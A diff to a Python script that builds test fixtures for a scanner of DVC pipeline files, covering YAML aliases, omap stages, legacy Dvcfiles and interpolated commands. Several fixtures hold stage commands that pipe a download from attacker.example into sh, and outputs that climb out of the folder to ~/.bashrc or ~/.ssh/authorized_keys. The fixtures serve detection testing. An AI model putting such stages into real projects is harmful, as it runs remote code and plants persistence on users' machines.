@@ -35,6 +35,23 @@ dvc.lock documentation), each in a folder of its own since DVC reads them by nam
 - late-stages/dvc.yaml: risky-cmd's stage after 20 KiB of comments: dvc repro runs it wherever it
   is, so it is reported the same (suspicious, medium command).
 
+Files DVC's loader (ruamel's safe loader) reads in ways a key-by-key reading misses, written by hand
+(PyYAML never writes these shapes):
+
+- alias-keys/dvc.yaml: a stage whose `cmd` and `outs` keys are aliases of anchored scalars
+  (`*c : curl … | sh`, an output `../../../home/user/.bashrc`): ruamel reads them as `cmd` and
+  `outs` (malicious).
+- alias-keys.dvc: the same in a single-stage `.dvc` file (malicious).
+- omap/dvc.yaml: `stages: !!omap`: ruamel builds an ordered dict, which DVC takes as the stages
+  mapping; its command is reported (suspicious, medium command).
+- dvcfile/Dvcfile: DVC 1.x-2.x's single-stage file name, with a legacy stage whose output climbs
+  out of the folder (malicious); dvcfile-benign/Dvcfile: the legacy stage `dvc run` wrote into a
+  Dvcfile (suspicious, like legacy-stage.dvc).
+- many-cmds/dvc.yaml: a stage whose 101st command pipes a download into sh: every command is
+  judged (suspicious, medium command with that command as evidence).
+- params-cmd/dvc.yaml: `cmd: ${run}`, the command taken from params.yaml (written beside it, not a
+  DVC file): built from parameters not in the file (suspicious, medium, evidence interpolated).
+
 Run from the repository root with /usr/bin/python3.
 """
 import json
@@ -136,6 +153,29 @@ put("late-stages/dvc.yaml", COMMENTS + yaml.safe_dump({"stages": {"setup": {
     "cmd": "curl -fsSL https://attacker.example/setup.sh | sh", "outs": ["model.pkl"]}}}, sort_keys=False),
     "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"], evidence={"stage": "setup"})
 
+put("alias-keys/dvc.yaml", "vars:\n  - k: &c cmd\n  - o: &o outs\nstages:\n  train:\n"
+    "    *c : curl -s https://attacker.example/x.sh | sh\n    *o :\n      - ../../../home/user/.bashrc\n",
+    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"], absent=["dvc/malformed"],
+    evidence={"cmd": "curl -s https://attacker.example/x.sh | sh"})
+put("alias-keys.dvc", "meta: {a: &c cmd, b: &o outs}\n*c : curl -s https://attacker.example/x.sh | sh\n*o :\n"
+    f"- path: ../../../home/user/.bashrc\n  md5: {MD5}\n",
+    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"], absent=["dvc/malformed"],
+    evidence={"path": "../../../home/user/.bashrc"})
+put("omap/dvc.yaml", "stages: !!omap\n  - setup:\n      cmd: curl -fsSL https://attacker.example/setup.sh | sh\n",
+    "suspicious", rules=["dvc/stage-command"], absent=["dvc/malformed"], evidence={"stage": "setup"})
+put("dvcfile/Dvcfile", {"cmd": "python train.py", "outs": [{"md5": MD5, "path": "../../.ssh/authorized_keys"}]},
+    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"])
+put("dvcfile-benign/Dvcfile", {"md5": "fd75c91bb60baf9bf36e4f64f0c1c7e0", "cmd": "python train.py",
+                               "deps": [{"md5": MD5, "path": "train.py"}],
+                               "outs": [{"md5": MD5, "path": "model.pkl", "cache": True}]},
+    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], absent=["dvc/path-traversal"])
+put("many-cmds/dvc.yaml", {"stages": {"train": {
+    "cmd": ["python step.py"] * 100 + ["curl -fsSL https://attacker.example/setup.sh | sh"]}}},
+    "suspicious", rules=["dvc/stage-command"], evidence={"cmd": "curl -fsSL https://attacker.example/setup.sh | sh"})
+put("params-cmd/dvc.yaml", {"stages": {"train": {"cmd": "${run}"}}},
+    "suspicious", rules=["dvc/stage-command"], evidence={"interpolated": True})
+with open(os.path.join(OUT, "params-cmd", "params.yaml"), "w") as f:
+    yaml.safe_dump({"run": "curl -fsSL https://attacker.example/setup.sh | sh"}, f)
 with open(os.path.join(OUT, "expected.json"), "w") as f:
     json.dump(expected, f, indent=1)
     f.write("\n")
